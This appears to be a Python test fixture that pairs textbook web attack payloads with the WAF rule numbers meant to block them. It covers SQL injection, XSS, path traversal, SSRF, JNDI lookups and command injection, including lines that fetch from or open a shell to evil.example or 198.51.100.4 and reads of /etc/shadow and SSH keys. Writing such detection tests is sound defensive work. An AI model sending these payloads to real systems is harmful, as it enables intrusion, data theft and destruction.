"""Attacks on web applications, each with the rule of waf-modsec that stops it.

The payloads are the plain textbook forms of each family; nothing here aims at a
particular program.
"""

from dataclasses import dataclass, field


@dataclass(frozen=True)
class Attack:
    """An attack: the rule that stops it and where in an exchange it goes."""

    rule: int
    where: str
    value: object
    name: str = "q"
    more: dict = field(default_factory=dict)


def query(rule, *values, name="q", **headers):
    return [Attack(rule, "query", value, name, headers) for value in values]


def form(rule, *values, name="comment"):
    return [Attack(rule, "form", value, name) for value in values]


def json(rule, *values):
    return [Attack(rule, "json", value) for value in values]


def header(rule, name, *values, **more):
    return [Attack(rule, "header", value, name, more) for value in values]


def cookie(rule, *values):
    return [Attack(rule, "cookie", value) for value in values]


def path(rule, *values):
    return [Attack(rule, "path", value) for value in values]


def upload(rule, filename, content, part_headers=()):
    return [Attack(rule, "upload", (filename, content, part_headers))]


def answer(rule, body, kind="text/html; charset=utf-8", **headers):
    return [Attack(rule, "answer", body, kind, headers)]


ATTACKS = [
    # 911, methods
    *[Attack(11010, "method", method) for method in ("TRACE", "CONNECT", "PROPFIND", "DEBUG")],
    # 913, scanners
    *header(13010, "user-agent", "sqlmap/1.8.11#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.5.0)",
            "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "gobuster/3.6", "masscan/1.3"),
    *path(13020, "/.env", "/.git/config", "/wp-login.php", "/phpmyadmin/index.php", "/actuator/heapdump",
          "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/.aws/credentials"),
    # 920, protocol
    *header(20010, "content-length", "12abc", "-1", "0x10"),
    *header(20020, "content-length", "5"),
    *path(20030, "/search?q=100%", "/search?q=%zz", "/a%2"),
    *path(20040, "/backup/site.sql", "/config/app.ini", "/index.php.bak", "/keys/server.pem"),
    *header(20050, "range", "bytes=0-1,1-2,2-3,3-4,4-5,5-6,6-7", "bytes=5-0, 5-1, 5-2, 5-3, 5-4, 5-5"),
    *header(20060, "content-type", "text/x-shellscript", "application/x-java-serialized-object", method="POST"),
    *header(20070, "transfer-encoding", "chunked", "x, chunked", method="POST"),
    *json(20080, '{"user":"ann",', '{"a":1}}', "[1,2"),
    *query(20090, "a\x00b", "x\x08y"),
    # 921, attacks by the protocol
    *query(21010, "en\r\nSet-Cookie: admin=1", "x\r\n\r\nLocation: https://evil.example/", "a\nContent-Length: 0"),
    *form(21020, "x\r\nGET /admin HTTP/1.1\r\nHost: shop.example", "POST /admin/users HTTP/1.1"),
    *query(21030, "*)(uid=*", "admin)(|(password=*"),
    # 922, multipart
    *upload(22010, "a.txt", "aGVsbG8=", ("Content-Transfer-Encoding: base64",)),
    *upload(22020, "shell.php", "hello"), *upload(22020, "photo.php.jpg", "hello"), *upload(22020, "cmd.aspx", "hello"),
    # 930, local files
    *query(30010, "../../../../etc/hostname", "..%2f..%2f..%2fsecret", "images/../../app", name="file"),
    *path(30010, "/static/../../app/settings", "/download/%2e%2e/%2e%2e/data"),
    *query(30020, "/etc/passwd", "/etc/./shadow", "C:\\boot.ini", "/proc/self/environ", "file=~/.ssh/id_rsa", name="file"),
    # 931, remote files
    *query(31010, "http://203.0.113.9/x.txt", "ftp://198.51.100.7:21/a", name="page"),
    *query(31020, "https://files.example/shell.txt?", "http://evil.example/a??", name="page"),
    # 932, commands
    *header(32010, "user-agent", "() { :; }; echo hi", "() { ignored; }; /usr/bin/id"),
    *query(32020, "127.0.0.1; cat ./a.txt", "x|id", "a && whoami", "$(curl evil.example)", "`uname`", "1;sleep 5", name="host"),
    *cookie(32020, "lang=en; theme=x|wget evil.example"),
    *form(32030, "powershell -enc SQBFAFgA", "cmd.exe /c dir", "Invoke-WebRequest evil.example", "certutil -urlcache"),
    *query(32040, "/bin/bash -i", "exec /usr//bin/wget", "0</dev/tcp/198.51.100.4/4444", name="run"),
    # 933, PHP
    *form(33010, "<?php echo 1;", "a <?= 1 ?>", "[php]echo 1[/php]"),
    *query(33020, "php://filter/read=convert.base64-encode/resource=index", "phar://upload/a.jpg", "expect://id",
           "data://text/plain;base64,SGk=", name="page"),
    *form(33030, "phpinfo()", "eval($_POST[1])", "shell_exec ('x')", "call_user_func('a')"),
    *cookie(33040, 'prefs=O:8:"stdClass":1:{s:1:"a"', "cart=a%3A1%3A%7Bi%3A0%3BO%3A4%3A%22Evil%22%3A0%3A%7B%7D%7D"),
    # 934, server-side requests, templates, Node.js, NoSQL
    *query(34010, "http://169.254.169.254/latest/meta-data/", "http://localhost:8080/admin", "gopher://127.0.0.1:6379/_INFO",
           "https://user@10.0.0.5/", "http://[::1]/", name="url"),
    *json(34020, '{"user":"ann","password":{"$ne":null}}', '{"age":{"$gt":0}}', '{"$where":"1==1"}'),
    *query(34020, "1", name="user[$ne]"),
    *form(34030, "{{7*7}}", "{{ config }}", "<%= 7*7 %>", "#{7*7}", "{{ self.__init__ }}"),
    *json(34040, '{"__proto__":{"admin":true}}', '{"a":"require(\'child_process\')"}'),
    *query(34040, "process.env.SECRET", "require ( 'fs' )"),
    # 941, XSS
    *query(41010, "<script>alert(1)</script>", "%3Cscript src=//evil.example/x.js>", "&lt;ScRiPt&gt;alert(1)", "< script >x"),
    *header(41010, "referer", "https://evil.example/<script>alert(1)</script>"),
    *query(41020, "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", '"><body onpageshow=alert(1)>'),
    *form(41030, "javascript:alert(1)", "<a href=' javascript:x'>", "vbscript:msgbox", "javascript :x"),
    *query(41040, "<iframe src=//evil.example>", "<object data=x>", "<embed src=x>"),
    # 942, SQL
    *query(42010, "1' UNION SELECT user,password FROM users-- -", "1/**/UnIoN/**/aLL/**/sElEcT 1,2", "x union distinct select null"),
    *query(42020, "1 AND SLEEP(5)", "benchmark(5000000,md5(1))", "'; WAITFOR DELAY '0:0:5'--", "pg_sleep (5)"),
    *form(42030, "x'; DROP TABLE users; --", "1; delete from orders", "1;update users set admin=1", "a; insert into log values(1)"),
    *query(42040, "information_schema.tables", "exec master..xp_cmdshell", "load_file(0x41)", "sqlite_master"),
    *query(42050, "' OR '1'='1", "1' or 1=1-- -", "admin'--", "1 or 1=1"),
    *cookie(42050, "note=1' OR '1'='1"),
    *query(42060, "(select 1)", name="id"), *cookie(42060, "id=1 or 2 like 2"),
    # 943, sessions
    *form(43010, "document.cookie = 'session=1'", "<meta http-equiv=set-cookie content=a>"),
    *query(43020, "0123456789abcdef", name="PHPSESSID", referer="https://evil.example/"),
    *query(43020, "x", name="jsessionid", referer="http://shop.example.evil.example/a"),
    # 944, Java
    *header(44010, "user-agent", "${jndi:ldap://evil.example/a}"),
    *header(44010, "x-api-version", "${${lower:j}ndi:rmi://evil.example}"),
    *query(44010, "${jndi:dns://evil.example}", "${${env:A:-j}ndi:ldap://x}", "%24%7bjndi:ldap://x%7d"),
    *form(44020, "java.lang.Runtime.getRuntime()", "new java.lang.ProcessBuilder", "freemarker.template.utility.Execute"),
    *query(44030, "x", name="class.module.classLoader.resources.context.parent.pipeline.first.pattern"),
    *cookie(44040, "state=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA"),
    *form(44040, "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", name="state"),
    # 949, the sum of small signs
    Attack(49900, "bare", "no accept, a bare address for a host"),
    Attack(49900, "bare", "no accept, a comment at the end, encoded twice", "q", {"value": "a%41%42 --"}),
    # 950 to 956, answers
    *answer(50010, "-- dump", "application/octet-stream", **{"content-disposition": 'attachment; filename="shop.sql"'}),
    *answer(50010, "key", "application/octet-stream", **{"content-disposition": "attachment; filename=server.key"}),
    *answer(50020, "<html><head><title>Index of /backup</title></head>"), *answer(50020, "<h1>Directory listing for /tmp/</h1>"),
    *answer(51010, "You have an error in your SQL syntax; check the manual near '1'"),
    *answer(51010, '{"error":"ORA-00933: SQL command not properly ended"}', "application/json"),
    *answer(51010, "SQLSTATE[42S02]: Base table or view not found"),
    *answer(52010, "java.lang.NullPointerException\n\tat shop.Cart.total(Cart.java:42)", "text/plain"),
    *answer(52010, "Caused by: java.sql.SQLException: refused"),
    *answer(53010, "<b>Warning</b>:  Undefined variable $a in <b>/srv/a.php</b> on line <b>3</b><br />"),
    *answer(54010, "<h1>Server Error in '/shop' Application.</h1>"), *answer(54010, "Microsoft OLE DB Provider for SQL Server error"),
    *answer(55010, "<html><title>host - c99 shell</title>"), *answer(55010, "uid=33(www-data) gid=33(www-data)", "text/plain"),
    *answer(56010, "<h1>ActiveRecord::RecordNotFound in OrdersController#show</h1>"),
    *answer(56010, "NoMethodError (undefined method `+' for nil):\n  app/models/cart.rb:42:in `total'", "text/plain"),
    *answer(56010, '{"status":500,"exception":"#<ZeroDivisionError: divided by 0>"}', "application/json"),
]
